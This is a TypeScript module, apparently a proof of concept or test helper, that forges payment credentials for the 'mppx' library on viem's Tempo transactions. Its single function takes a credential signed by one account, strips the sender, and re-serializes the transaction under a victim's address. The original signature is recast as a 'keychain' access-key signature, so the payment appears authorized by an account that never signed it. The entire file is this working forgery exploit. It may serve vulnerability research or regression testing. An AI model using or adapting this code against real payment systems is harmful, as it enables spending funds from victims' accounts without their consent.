/** Payments in the name of accounts that did not sign them. */
import { Credential } from 'mppx'
import { Transaction } from 'viem/tempo'

/** The credential with the signature of its transaction put under another's name, as an access key of it. */
export async function forgedOf(
  credential: string,
  victim: `0x${string}`,
  version: 'v1' | 'v2' = 'v2',
): Promise<string> {
  const given = Credential.deserialize<{ signature: `0x76${string}` }>(credential)
  const { signature, from: _, ...rest } = Transaction.deserialize(given.payload.signature)
  if (signature?.type !== 'secp256k1') throw new TypeError('the account signs by itself')
  const moved = await Transaction.serialize(
    { ...rest, from: victim },
    { type: 'keychain', version, userAddress: victim, inner: signature },
  )
  return Credential.serialize({ ...given, payload: { ...given.payload, signature: moved } })
}
